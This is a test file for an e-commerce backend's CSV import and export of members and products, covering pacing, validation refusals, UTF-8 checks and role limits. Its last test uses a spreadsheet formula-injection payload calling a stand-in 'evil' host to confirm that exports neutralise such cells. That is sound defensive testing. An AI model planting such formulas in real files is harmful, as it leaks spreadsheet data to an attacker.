import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { entities } from '../../generated/entities';
import { tables } from '../../generated/database';
import { importCsv, MAX_IMPORT_ROWS } from '../../src/server/core/crud/import';
import { runtime } from '../../src/server/core/crud/runtime';
import { dialects, startServer, type TestServer } from './helpers';

/** CSV imports of members and products: the schemas' rules per row, a report of refusals, all or nothing. */
describe.each(dialects)('CSV import on %s', (dialect) => {
  let s: TestServer;
  let token: string;
  let seller: string;
  const post = async (path: string, csv: string, tok = token) => {
    const res = await fetch(`${s.base}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${tok}`, 'content-type': 'text/csv' },
      body: csv,
    });
    return res.json();
  };
  const total = async (path: string, query: Record<string, string | number> = {}) =>
    (await s.api('GET', path, undefined, { token, query: { ...query, pageSize: 1 } })).data.total as number;

  beforeAll(async () => {
    s = await startServer({ dialect });
    token = await s.login('admin', 'admin123');
    seller = await s.login('seller', 'seller123');
  });
  afterAll(async () => s?.close());
  // Paced as a job is, with no rest: batches of 1000 rows, a turn of the event loop every 5 ms of work.
  const idle = async () => {};
  const paced = { batch: 1000, slice: 5, rest: idle, between: idle, storing: idle };

  it('paced as a job, lets requests run once a slice of time is spent, within a batch too', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    const csv = ['username,shopId', ...Array.from({ length: 30 }, (_, i) => `slice.${i},${shop}`)].join('\n');
    const turns = { rest: 0, between: 0, storing: 0 };
    // A batch larger than the file and no time at all per slice: every row is followed by a turn of the event loop
    // (while storing too on SQLite, where a statement holds the loop; PostgreSQL's one statement holds nothing of it).
    const report = await importCsv(s.built.db, runtime('member'), csv, undefined, undefined, {
      batch: 1000,
      slice: 0,
      rest: async () => void turns.rest++,
      between: async () => void turns.between++,
      storing: async () => void turns.storing++,
    });
    expect(report.imported).toBe(30);
    expect(turns).toEqual({ rest: 29, between: 1, storing: dialect === 'sqlite' ? 29 : 0 });
  });

  it('paced, parses a large file a piece at a time, with turns of the event loop between', async () => {
    // 40,000 rows, 2.3 MB: parsed in one go, no timer ran before the refusal of its unknown column.
    const rows = Array.from({ length: 40_000 }, (_, i) => `parse.${i},US,a longer cell to make the file larger`);
    const csv = ['username,country,noSuchColumn', ...rows].join('\n');
    let ticks = 0;
    const timer = setInterval(() => ticks++, 1);
    const refused = await importCsv(s.built.db, runtime('member'), csv, undefined, undefined, paced).then(
      () => undefined,
      (e: Error & { data?: unknown }) => e,
    );
    clearInterval(timer);
    expect(JSON.stringify(refused?.data)).toContain('unknown columns: noSuchColumn');
    expect(ticks).toBeGreaterThan(2);
  });

  it.runIf(dialect === 'postgres')('vacuums the table after storing many rows, so its planner sees them', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    const csv = ['username,shopId', ...Array.from({ length: 1000 }, (_, i) => `vacuum.${i},${shop}`)].join('\n');
    const table = runtime('member').table;
    const vacuumed = async () =>
      (
        await sql<{
          at: string | null;
        }>`SELECT last_vacuum AS at FROM pg_stat_user_tables WHERE relname = ${table}`.execute(s.built.db.kysely)
      ).rows[0]?.at ?? null;
    const before = await vacuumed();
    const report = await importCsv(s.built.db, runtime('member'), csv, undefined, undefined, paced);
    expect(report.imported).toBe(1000);
    await expect.poll(vacuumed).not.toBe(before);
  });

  it('imports members with field names or labels (as an export writes them), enum labels as values', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    const before = await total('/member/list');
    const csv = `\uFEFFusername,Nickname,Country,Status,shopId\nimp.one,One,US,Enabled,${shop}\nimp.two,"Two, Jr.",CN,,${shop}\n`;
    const res = await post('/member/import', csv);
    expect(res, JSON.stringify(res)).toMatchObject({ code: 200, data: { imported: 2, refused: [] } });
    expect(await total('/member/list')).toBe(before + 2);
    const two = (await s.api('GET', '/member/list', undefined, { token, query: { keyword: 'imp.two' } })).data.list[0];
    expect(two).toMatchObject({ username: 'imp.two', nickname: 'Two, Jr.', country: 'CN', shopId: shop });
  });

  it('refuses the whole file when a row breaks a rule, saying which rows and why', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    const theirs = (await s.api('GET', '/shop/list', undefined, { token })).data.list.find(
      (x: { id: number }) => x.id !== shop,
    );
    const before = await total('/member/list');
    const csv = [
      'username,country,shopId',
      `imp.good,US,${shop}`,
      `x,US,${shop}`,
      `imp.bad.country,ZZ,${shop}`,
      `imp.foreign,US,${theirs.id}`,
    ].join('\n');
    const res = await post('/member/import', csv, seller);
    expect(res.code).toBe(404);
    expect(res.message).toBe('Validation Failed: 3 of 4 rows refused, nothing imported');
    expect(res.data.imported).toBe(0);
    const rows = res.data.refused.map((r: { row: number; errors: Record<string, string> }) => [
      r.row,
      Object.keys(r.errors)[0],
    ]);
    expect(rows).toEqual([
      [2, 'username'],
      [3, 'country'],
      [4, 'shopId'],
    ]);
    expect(await total('/member/list')).toBe(before);
    expect((await post('/member/import', 'username,color\nimp.x,red')).message).toBe(
      'Validation Failed: header: unknown columns: color',
    );
    expect((await post('/member/import', '')).code).toBe(404);
  });

  it('leaves no trace of a refused file but its answer: no job row, no audit entry, no record', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    // Every table's rows: a refusal changes none (the job that ran it and the audit trail included).
    const counts = async () => {
      const parts = Object.values(tables).map((t) => `SELECT '${t}' AS t, COUNT(*) AS n FROM ${t}`);
      const rows = (await sql.raw<{ t: string; n: number }>(parts.join(' UNION ALL ')).execute(s.built.db.kysely)).rows;
      return rows.map((r) => `${r.t}=${r.n}`).join(',');
    };
    const tooMany = ['username', ...Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, i) => `x${i}`)].join('\n');
    const refusals: [string, string, RegExp][] = [
      [tooMany, token, new RegExp(`at most ${MAX_IMPORT_ROWS} rows`)],
      [`username,country,shopId\nrefused.ok,US,${shop}\nrefused.bad,ZZ,${shop}`, seller, /1 of 2 rows refused/],
      [`username,country,shopId\nrefused.ok,US,${shop}\nx,US,${shop}`, token, /1 of 2 rows refused/],
      ['username,color\nrefused.x,red', token, /unknown columns/],
      ['username\n"refused', seller, /not a CSV file/],
    ];
    for (const [csv, tok, message] of refusals) {
      const before = await counts();
      const res = await post('/member/import', csv, tok);
      expect(res.code, res.message).toBe(404);
      expect(res.message).toMatch(message);
      expect(await counts(), res.message).toBe(before);
    }
  });

  it('imports products with their names copied and the brand and category counts updated', async () => {
    const product = (await s.api('GET', '/product/list', undefined, { token, query: { pageSize: 1 } })).data.list[0];
    const brandBefore = (await s.api('GET', `/brand/${product.brandId}`, undefined, { token })).data.productCount;
    const rows = [1, 2, 3].map(
      (i) =>
        `Imported lamp ${i},Warm light,A lamp for reading,${product.productCategoryId},${product.brandId},${product.shopId},19.9${i}`,
    );
    const res = await post(
      '/product/import',
      ['name,subTitle,description,productCategoryId,brandId,shopId,price', ...rows].join('\n'),
    );
    expect(res, JSON.stringify(res)).toMatchObject({ code: 200, data: { imported: 3 } });
    const made = (await s.api('GET', '/product/list', undefined, { token, query: { keyword: 'Imported lamp' } })).data
      .list;
    expect(made).toHaveLength(3);
    expect(made[0]).toMatchObject({ brandName: product.brandName, productCategoryName: product.productCategoryName });
    expect((await s.api('GET', `/brand/${product.brandId}`, undefined, { token })).data.productCount).toBe(
      brandBefore + 3,
    );
  });
  it("keeps a seller's import out of the platform's review: verifyStatus only platform staff write", async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    const header = 'name,subTitle,description,productCategoryId,verifyStatus,publishStatus,productSn,shopId';
    const category = (await s.api('GET', '/product/list', undefined, { token, query: { pageSize: 1 } })).data.list[0]
      .productCategoryId;
    const bySeller = await post(
      '/product/import',
      `${header}\nReview me,s,d,${category},1,1,SN-REV-1,${shop}\n`,
      seller,
    );
    expect(bySeller, JSON.stringify(bySeller)).toMatchObject({ code: 200, data: { imported: 1 } });
    const byStaff = await post('/product/import', `${header}\nReviewed,s,d,${category},1,1,SN-REV-2,${shop}\n`);
    expect(byStaff, JSON.stringify(byStaff)).toMatchObject({ code: 200, data: { imported: 1 } });
    const find = async (sn: string) =>
      (await s.api('GET', '/product/list', undefined, { token, query: { productSn: sn } })).data.list[0];
    // The seller's product awaits review (the default), still published as the seller asked; staff's is verified.
    expect(await find('SN-REV-1')).toMatchObject({ verifyStatus: 0, publishStatus: 1 });
    expect(await find('SN-REV-2')).toMatchObject({ verifyStatus: 1, publishStatus: 1 });
  });
  it('paced, keeps characters that the pieces it parses split in two', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    // The parser's pieces are 64 KiB: the first row's nickname is as long as puts their first boundary inside a
    // character (a UTF-8 continuation byte there).
    let pad = '';
    const nick = (i: number) => (i ? `汉字😀${'中'.repeat(i % 7)}` : `${pad}汉`);
    const file = () =>
      Buffer.from(
        [
          'username,nickname,country,shopId',
          ...Array.from({ length: 3000 }, (_, i) => `piece.${i},${nick(i)},US,${shop}`),
        ].join('\n'),
      );
    while ((file()[64 * 1024]! & 0xc0) !== 0x80) pad += 'a';
    const csv = file();
    const report = await importCsv(s.built.db, runtime('member'), csv, undefined, undefined, paced);
    expect(report.imported).toBe(3000);
    const rt = runtime('member');
    const stored = await s.built.db.kysely
      .selectFrom(rt.table as typeof tables.member)
      .select(['username', 'nickname'])
      .where('username', 'like', 'piece.%')
      .execute();
    expect(stored.length).toBe(3000);
    for (const r of stored) expect(r.nickname).toBe(nick(Number(r.username.slice('piece.'.length))));
  });

  it('refuses a file that is not UTF-8, naming the row and column, and stores nothing', async () => {
    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
    const before = await total('/member/list');
    const latin1 = Buffer.concat([
      Buffer.from(`username,nickname,country,shopId\nutf.ok,Zoë,US,${shop}\nutf.bad,Zo`),
      Buffer.from([0xeb]), // "ë" in Latin-1: not UTF-8
      Buffer.from(`,US,${shop}\n`),
    ]);
    const res = await (
      await fetch(`${s.base}/member/import`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'text/csv' },
        body: latin1,
      })
    ).json();
    expect(res).toMatchObject({
      code: 404,
      message: 'Validation Failed: 1 of 2 rows refused, nothing imported',
      data: { imported: 0, refused: [{ row: 2, errors: { nickname: expect.stringMatching(/not UTF-8/) } }] },
    });
    expect(await total('/member/list')).toBe(before);
  });

  it('exports text that a spreadsheet would run as a formula with a leading quote, and imports it back as it was', async () => {
    const category = (await s.api('GET', '/product/list', undefined, { token, query: { pageSize: 1 } })).data.list[0]
      .productCategoryId;
    const shop = (await s.api('GET', '/shop/list', undefined, { token })).data.list[0].id;
    const evil = '=HYPERLINK(""http://evil/?""&A1,""x"")'; // CSV-quoted: =HYPERLINK("http://evil/?"&A1,"x")
    const csv = [
      'name,subTitle,description,note,keywords,productCategoryId,shopId,sort,productSn',
      `"${evil}",@SUM(1),"-2+3","'=kept",+1 555,${category},${shop},-5,SN-FORMULA-1`,
    ].join('\n');
    expect(await post('/product/import', csv)).toMatchObject({ code: 200, data: { imported: 1 } });
    const stored = (await s.api('GET', '/product/list', undefined, { token, query: { productSn: 'SN-FORMULA-1' } }))
      .data.list[0];
    // An import takes one guard quote off ("'=kept" is how an export writes "=kept").
    expect(stored).toMatchObject({
      name: '=HYPERLINK("http://evil/?"&A1,"x")',
      subTitle: '@SUM(1)',
      description: '-2+3',
      note: '=kept',
      keywords: '+1 555',
      sort: -5,
    });
    const exported = await (
      await fetch(`${s.base}/product/export?productSn=SN-FORMULA-1&lang=en`, {
        headers: { authorization: `Bearer ${token}` },
      })
    ).text();
    const [header, row] = parse(exported, { bom: true }) as string[][];
    const cell = (field: string) =>
      row[header.indexOf(entities.product.fields.find((f) => f.name === field)!.label.en)];
    expect(cell('name')).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
    expect([cell('subTitle'), cell('description'), cell('note'), cell('keywords')]).toEqual([
      "'@SUM(1)",
      "'-2+3",
      "'=kept",
      "'+1 555",
    ]);
    expect(cell('sort')).toBe('-5'); // a number stays a number
    // The exported file imports back unchanged.
    expect(await post('/product/import', exported.replace('SN-FORMULA-1', 'SN-FORMULA-2'))).toMatchObject({
      code: 200,
      data: { imported: 1 },
    });
    const again = (await s.api('GET', '/product/list', undefined, { token, query: { productSn: 'SN-FORMULA-2' } })).data
      .list[0];
    for (const f of ['name', 'subTitle', 'description', 'note', 'keywords', 'sort'])
      expect(again[f], f).toEqual(stored[f]);
  });
});
